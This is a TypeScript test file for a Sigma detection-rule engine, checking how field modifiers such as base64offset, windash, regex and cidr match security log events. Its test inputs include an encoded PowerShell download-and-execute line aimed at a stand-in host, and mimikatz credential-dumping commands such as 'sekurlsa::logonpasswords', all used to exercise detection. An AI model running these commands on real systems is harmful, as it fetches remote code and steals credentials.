import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HaechiError } from '../../errors.js';
import { compileFieldEntry, type FieldCompileOptions, regexRequiredLiteral } from './field-entry.js';
import { MatchContext } from './match-context.js';

function check(
  key: string,
  value: unknown,
  fields: Record<string, unknown>,
  opts?: FieldCompileOptions,
): boolean {
  return compileFieldEntry(key, value, opts).test(new MatchContext().reset(fields));
}

function b64(s: string, enc: BufferEncoding = 'utf8'): string {
  return Buffer.from(s, enc).toString('base64');
}

function utf16be(s: string): Buffer {
  return Buffer.from(s, 'utf16le').swap16();
}

const PS_ENC = b64('IEX (New-Object Net.WebClient).DownloadString("http://x/a")', 'utf16le');

type Case = [key: string, value: unknown, fields: Record<string, unknown>, expected: boolean, why: string];

// Sigma modifiers appendix v2.1.0: one table row per behaviour.
const CASES: Case[] = [
  // generic
  [
    'CommandLine|contains',
    'mimikatz',
    { CommandLine: 'C:\\x\\MIMIKATZ.exe privilege::debug' },
    true,
    'contains, case-insensitive',
  ],
  ['CommandLine|contains', 'mimikatz', { CommandLine: 'C:\\x\\procdump.exe' }, false, 'contains: absent'],
  ['Image|startswith', 'C:\\Users\\', { Image: 'c:\\users\\bob\\a.exe' }, true, 'startswith'],
  ['Image|startswith', 'C:\\Users\\', { Image: 'D:\\C:\\Users\\' }, false, 'startswith anchors at the start'],
  ['Image|endswith', '\\cmd.exe', { Image: 'C:\\Windows\\System32\\CMD.EXE' }, true, 'endswith'],
  [
    'Image|endswith',
    '\\cmd.exe',
    { Image: 'C:\\Windows\\System32\\cmd.exe.bak' },
    false,
    'endswith anchors at the end',
  ],
  ['Image|endswith', ['\\a.exe', '\\b.exe'], { Image: 'C:\\b.exe' }, true, 'list values are ORed'],
  [
    'CommandLine|contains|all',
    ['-nop', '-w hidden'],
    { CommandLine: 'powershell -nop -w hidden -c x' },
    true,
    'all: every value present',
  ],
  [
    'CommandLine|contains|all',
    ['-nop', '-w hidden'],
    { CommandLine: 'powershell -nop -c x' },
    false,
    'all: one value missing',
  ],
  ['CommandLine|contains', 'a*c', { CommandLine: 'xxabbbcxx' }, true, 'wildcards inside contains'],
  [
    'Image',
    'C:\\Windows\\System32\\whoami.exe',
    { Image: 'C:\\Windows\\System32\\WHOAMI.exe' },
    true,
    'plain equality ignores case',
  ],
  [
    'Image',
    'C:\\Windows\\System32\\whoami.exe',
    { Image: 'C:\\Windows\\System32\\whoami.exe ' },
    false,
    'plain equality is whole-value',
  ],
  ['Image|cased|endswith', '\\PowerShell.exe', { Image: 'C:\\x\\PowerShell.exe' }, true, 'cased: same case'],
  [
    'Image|cased|endswith',
    '\\PowerShell.exe',
    { Image: 'C:\\x\\powershell.exe' },
    false,
    'cased: other case',
  ],
  ['User|neq', 'admin', { User: 'bob' }, true, 'neq: different'],
  ['User|neq', 'admin', { User: 'ADMIN' }, false, 'neq: equal ignoring case'],
  ['User|neq', 'admin', {}, true, 'neq: absent field differs'],
  ['User|neq', ['admin', 'root'], { User: 'root' }, false, 'neq with a list: equal to one'],
  ['PasswordLastSet|exists', true, { PasswordLastSet: null }, true, 'exists: present even if null'],
  ['PasswordLastSet|exists', true, {}, false, 'exists: absent'],
  ['PasswordLastSet|exists', false, {}, true, 'exists false: absent'],
  ['PasswordLastSet|exists', false, { PasswordLastSet: '' }, false, 'exists false: present'],
  // windash: -, /, en dash, em dash, horizontal bar
  ['CommandLine|windash|contains', ' -enc ', { CommandLine: 'powershell /enc AAAA' }, true, 'windash: slash'],
  [
    'CommandLine|windash|contains',
    ' -enc ',
    { CommandLine: 'powershell \u2013enc AAAA' },
    true,
    'windash: en dash',
  ],
  [
    'CommandLine|windash|contains',
    ' -enc ',
    { CommandLine: 'powershell \u2014enc AAAA' },
    true,
    'windash: em dash',
  ],
  [
    'CommandLine|windash|contains',
    ' -enc ',
    { CommandLine: 'powershell \u2015enc AAAA' },
    true,
    'windash: horizontal bar',
  ],
  [
    'CommandLine|windash|contains',
    ' -enc ',
    { CommandLine: 'powershell +enc AAAA' },
    false,
    'windash: other characters',
  ],
  [
    'CommandLine|windash|contains|all',
    [' -a ', ' -b '],
    { CommandLine: 'x /a \u2013b y' },
    true,
    'windash with all',
  ],
  // encodings
  ['CommandLine|base64|contains', 'http://', { CommandLine: `x ${b64('http://')} y` }, true, 'base64'],
  ['CommandLine|base64', 'http://', { CommandLine: b64('http://') }, true, 'base64 exact'],
  [
    'CommandLine|base64offset|contains',
    'whoami',
    { CommandLine: b64('whoami /all') },
    true,
    'base64offset: offset 0',
  ],
  [
    'CommandLine|base64offset|contains',
    'whoami',
    { CommandLine: b64('xwhoami /all') },
    true,
    'base64offset: offset 1',
  ],
  [
    'CommandLine|base64offset|contains',
    'whoami',
    { CommandLine: b64('xxwhoami /all') },
    true,
    'base64offset: offset 2',
  ],
  [
    'CommandLine|base64offset|contains',
    'whoami',
    { CommandLine: b64('xxxwho ami') },
    false,
    'base64offset: absent',
  ],
  [
    'CommandLine|utf16le|base64offset|contains',
    'New-Object',
    { CommandLine: `powershell -enc ${PS_ENC}` },
    true,
    'utf16le + base64offset (PowerShell -enc)',
  ],
  [
    'CommandLine|wide|base64offset|contains',
    'DownloadString',
    { CommandLine: `powershell -enc ${PS_ENC}` },
    true,
    'wide is utf16le',
  ],
  [
    'CommandLine|base64offset|contains',
    'New-Object',
    { CommandLine: `powershell -enc ${PS_ENC}` },
    false,
    'utf-8 base64 does not match utf-16 payload',
  ],
  [
    'Payload|utf16be|base64offset|contains',
    'secret',
    { Payload: utf16be('a secret b').toString('base64') },
    true,
    'utf16be',
  ],
  [
    'Payload|utf16|base64|startswith',
    'cmd /',
    { Payload: b64('\ufeffcmd /c whoami', 'utf16le') },
    true,
    'utf16 prepends a BOM',
  ],
  [
    'Payload|utf16le|contains',
    'ab',
    { Payload: 'x\u0061\u0000\u0062\u0000y' },
    true,
    'utf16le without base64 matches the raw bytes',
  ],
  // regular expressions
  ['CommandLine|re', '-e(nc)? [A-Za-z0-9+/=]{8}', { CommandLine: 'ps -enc SQBFAFgA' }, true, 're searches'],
  ['CommandLine|re', 'ABC', { CommandLine: 'xabcx' }, false, 're is case-sensitive by default'],
  ['CommandLine|re|i', 'ABC', { CommandLine: 'xabcx' }, true, 're|i'],
  ['CommandLine|re', '(?i)ABC', { CommandLine: 'xabcx' }, true, 'leading (?i) inline flag'],
  ['CommandLine|re', '^b$', { CommandLine: 'a\nb' }, false, 'without m, ^ and $ are the whole text'],
  ['CommandLine|re|m', '^b$', { CommandLine: 'a\nb' }, true, 're|m'],
  ['CommandLine|re', 'a.b', { CommandLine: 'a\nb' }, false, 'without s, . does not match newline'],
  ['CommandLine|re|s', 'a.b', { CommandLine: 'a\nb' }, true, 're|s'],
  ['CommandLine|re', '(?P<x>ab)c', { CommandLine: 'abc' }, true, 'PCRE named group'],
  // cidr
  ['DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '10.20.30.40' }, true, 'cidr v4'],
  ['DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '11.0.0.1' }, false, 'cidr v4 outside'],
  [
    'DestinationIp|cidr',
    ['192.168.0.0/16', '172.16.0.0/12'],
    { DestinationIp: '172.31.255.255' },
    true,
    'cidr list',
  ],
  ['DestinationIp|cidr', '172.16.0.0/12', { DestinationIp: '172.32.0.1' }, false, 'cidr non-octet prefix'],
  ['DestinationIp|cidr', '2001:db8::/32', { DestinationIp: '2001:DB8:1::5' }, true, 'cidr v6'],
  ['DestinationIp|cidr', '2001:db8::/32', { DestinationIp: '2001:db9::1' }, false, 'cidr v6 outside'],
  ['DestinationIp|cidr', 'fe80::/10', { DestinationIp: 'fe80::1%eth0' }, true, 'cidr v6 with zone id'],
  [
    'DestinationIp|cidr',
    '10.0.0.0/8',
    { DestinationIp: '::ffff:10.0.0.1' },
    true,
    'v4-mapped v6 address in a v4 range',
  ],
  ['DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: 'not-an-ip' }, false, 'cidr: not an address'],
  ['DestinationIp|cidr|neq', '10.0.0.0/8', { DestinationIp: '8.8.8.8' }, true, 'cidr with neq'],
  // numeric comparisons
  ['Count|gt', 5, { Count: 6 }, true, 'gt'],
  ['Count|gt', 5, { Count: '5' }, false, 'gt: equal'],
  ['Count|gte', 5, { Count: '5' }, true, 'gte: numeric string'],
  ['Count|lt', 5, { Count: 4.5 }, true, 'lt'],
  ['Count|lte', 5, { Count: 6 }, false, 'lte'],
  ['Count|lt', 5, { Count: 'abc' }, false, 'comparison on a non-number'],
  ['Count|lt', 5, {}, false, 'comparison on an absent field'],
  ['Count|neq', 5, { Count: 6 }, true, 'neq numeric'],
  ['Count|neq', 5, { Count: '5' }, false, 'neq numeric equal'],
  // field references
  [
    'TargetUserName|fieldref',
    'SubjectUserName',
    { TargetUserName: 'Bob', SubjectUserName: 'bob' },
    true,
    'fieldref: equal fields',
  ],
  [
    'TargetUserName|fieldref',
    'SubjectUserName',
    { TargetUserName: 'Bob', SubjectUserName: 'alice' },
    false,
    'fieldref: different',
  ],
  [
    'TargetUserName|fieldref|neq',
    'SubjectUserName',
    { TargetUserName: 'Bob', SubjectUserName: 'alice' },
    true,
    'fieldref with neq',
  ],
  [
    'TargetUserName|fieldref',
    'SubjectUserName',
    { TargetUserName: 'Bob' },
    false,
    'fieldref: other field absent',
  ],
  [
    'Image|fieldref|endswith',
    'OriginalFileName',
    { Image: 'C:\\x\\evil.exe', OriginalFileName: 'EVIL.EXE' },
    true,
    'fieldref with endswith',
  ],
  ['Image|fieldref|cased', 'ParentImage', { Image: 'A', ParentImage: 'a' }, false, 'fieldref with cased'],
  // time modifiers read a number out of a date
  ['UtcTime|hour', 21, { UtcTime: '2024-03-05 21:30:00.000' }, true, 'hour'],
  ['UtcTime|hour|gte', 20, { UtcTime: '2024-03-05 19:59:59.999' }, false, 'hour with gte'],
  ['UtcTime|hour|lt', 6, { UtcTime: '2024-03-05T05:10:00Z' }, true, 'hour with lt'],
  [
    'UtcTime|hour',
    22,
    { UtcTime: '2024-03-05T23:30:00+01:00' },
    true,
    'hour of a time with an offset, in UTC',
  ],
  ['UtcTime|minute', 30, { UtcTime: '2024-03-05 21:30:00' }, true, 'minute'],
  ['UtcTime|day', 5, { UtcTime: '2024-03-05 21:30:00' }, true, 'day'],
  ['UtcTime|week', 10, { UtcTime: '2024-03-05 21:30:00' }, true, 'week (ISO 8601)'],
  [
    'UtcTime|week',
    1,
    { UtcTime: '2021-01-04 00:00:00' },
    true,
    'week 1 starts on the first Monday with a Thursday',
  ],
  ['UtcTime|month', 3, { UtcTime: '2024-03-05 21:30:00' }, true, 'month'],
  ['UtcTime|year|gte', 2024, { UtcTime: '2023-12-31 23:59:59' }, false, 'year'],
  ['UtcTime|hour', 1, { UtcTime: 'yesterday-ish' }, false, 'time modifier on a non-date'],
  // placeholders
  ['User|expand', '%Admins%', { User: 'adm_bob' }, true, 'expand: placeholder with wildcard value'],
  ['User|expand', '%Admins%', { User: 'ROOT' }, true, 'expand: second value'],
  ['User|expand', '%Admins%', { User: 'bob' }, false, 'expand: not in the list'],
  [
    'Computer|expand|startswith',
    'srv-%Site%',
    { Computer: 'SRV-SEOUL-01' },
    true,
    'expand inside a value, then startswith',
  ],
  ['User', '%Admins%', { User: '%Admins%' }, true, 'without expand, %name% is literal'],
  // special values
  ['Field', null, {}, true, 'null: absent'],
  ['Field', null, { Field: null }, true, 'null: null'],
  ['Field', null, { Field: '' }, true, 'null: empty string'],
  ['Field', null, { Field: 'x' }, false, 'null: a value'],
  ['Field', '', { Field: '' }, true, "'' matches the empty value"],
  ['Field', '', { Field: 'x' }, false, "'' does not match a value"],
  ['EventID', 4688, { EventID: 4688 }, true, 'number vs number'],
  ['EventID', 4688, { EventID: '4688' }, true, 'number vs numeric string'],
  ['EventID', 4688, { EventID: '0x1250' }, true, 'number vs hexadecimal string'],
  ['EventID', 4688, { EventID: 46880 }, false, 'numbers are whole values'],
  ['EventID', [4624, 4625], { EventID: 4625 }, true, 'number list'],
  ['Enabled', true, { Enabled: 'True' }, true, 'booleans compare as text'],
  ['Tags|contains', 'evil', { Tags: ['good', 'EVIL-thing'] }, true, 'array fields: any element'],
  ['id.orig_h|cidr', '10.0.0.0/8', { id: { orig_h: '10.1.1.1' } }, true, 'dotted names reach nested objects'],
  ['id.orig_h', '10.1.1.1', { 'id.orig_h': '10.1.1.1' }, true, 'dotted names as flat keys'],
  // keywords (field-less)
  [
    '',
    ['event::clear', 'sekurlsa::'],
    { CommandLine: 'mimikatz SEKURLSA::logonpasswords' },
    true,
    'keywords search all values',
  ],
  ['', ['event::clear'], { CommandLine: 'x', Other: 'y' }, false, 'keywords absent'],
  [
    '|all',
    ['OabVirtualDirectory', ' -ExternalUrl '],
    { Payload: 'Set-OabVirtualDirectory -ExternalUrl http://x' },
    true,
    '|all keywords: both',
  ],
  [
    '|all',
    ['OabVirtualDirectory', ' -ExternalUrl '],
    { Payload: 'Set-OabVirtualDirectory' },
    false,
    '|all keywords: one missing',
  ],
  ['', ['a*c'], { X: 'zzabbcz' }, true, 'keyword with wildcard'],
  ['|re', 'sekurlsa::\\w+', { X: 'run sekurlsa::logonpasswords' }, true, 'regex keyword'],
];

const PLACEHOLDERS = { Admins: ['adm_*', 'root'], Site: ['seoul', 'busan'] };

test('every modifier of the modifiers appendix behaves as specified', () => {
  for (const [key, value, fields, expected, why] of CASES) {
    const got = check(key, value, fields, { placeholders: PLACEHOLDERS });
    assert.equal(got, expected, `${key}: ${JSON.stringify(value)} on ${JSON.stringify(fields)}: ${why}`);
  }
});

const REJECTS: [key: string, value: unknown, reason: RegExp][] = [
  ['CommandLine|foo', 'x', /unknown modifier 'foo' in field 'CommandLine\|foo'/],
  ['CommandLine|i', 'x', /modifier 'i' requires 're'/],
  ['CommandLine|re|contains', 'x', /'contains' cannot be combined with 're'/],
  ['CommandLine|re', '(unclosed', /invalid regular expression '\(unclosed'/],
  ['X|exists', 'maybe', /'exists' takes true or false/],
  ['X|gt', 'ten', /'gt' needs a number, got 'ten'/],
  ['X|gt|lt', 5, /more than one comparison modifier/],
  ['X|cidr', '10.0.0.0/33', /invalid prefix length/],
  ['X|cidr', 'bogus', /'bogus' is not a CIDR range/],
  ['X|base64', 'a*b', /'base64' cannot encode the wildcard value 'a\*b'/],
  ['X|contains|contains', 'x', /repeated/],
  ['User|expand', '%Nobody%', /placeholder %Nobody% has no value \(field 'User\|expand'\)/],
  ['X', { nested: 1 }, /nested map or list/],
  ['|exists', true, /needs a field name/],
];

test('unsupported constructs are rejected with a reason naming them', () => {
  for (const [key, value, reason] of REJECTS) {
    assert.throws(
      () => compileFieldEntry(key, value, { placeholders: PLACEHOLDERS }),
      (e: unknown) => e instanceof HaechiError && e.code === 'rule' && reason.test(e.message),
      `${key}: ${JSON.stringify(value)} should be rejected with ${reason}`,
    );
  }
});

test('prefilter literals are necessary conditions', () => {
  const pre = (k: string, v: unknown) => compileFieldEntry(k, v).prefilter;
  assert.deepEqual(pre('Image|endswith', ['\\a.exe', '\\B.exe']), [
    { field: 'Image', literals: ['\\a.exe', '\\b.exe'] },
  ]);
  assert.equal(pre('Image|neq', 'x'), undefined, 'negations have no necessary literal');
  assert.equal(pre('Image', null), undefined);
  assert.equal(pre('EventID', 4688), undefined, "numbers match hex text that doesn't contain them");
  assert.deepEqual(pre('CommandLine|contains|all', ['ab', 'abcdef']), [
    { field: 'CommandLine', literals: ['abcdef'] },
  ]);
  assert.deepEqual(pre('', ['Mimikatz']), [{ field: '*', literals: ['mimikatz'] }]);
  assert.deepEqual(pre('CommandLine|re', '\\w+`(?:\\w+|-|.)`[\\w+|\\s]'), [
    { field: 'CommandLine', literals: ['`'] },
  ]);
});

test('regular expression literals are extracted conservatively', () => {
  const cases: [string, string | undefined][] = [
    ['abc', 'abc'],
    ['ab?c', 'a'],
    ['foo|bar', undefined],
    ['(foo|bar)baz', 'baz'],
    ['\\.exe$', '.exe'],
    ['\\x41bcd', 'bcd'],
    ['[abc]+xyz\\d', 'xyz'],
    ['(?i)Invoke-Mimikatz', 'invoke-mimikatz'],
    ['ab+c', 'ab'],
    ['.*', undefined],
  ];
  for (const [src, want] of cases) assert.equal(regexRequiredLiteral(src), want, src);
});
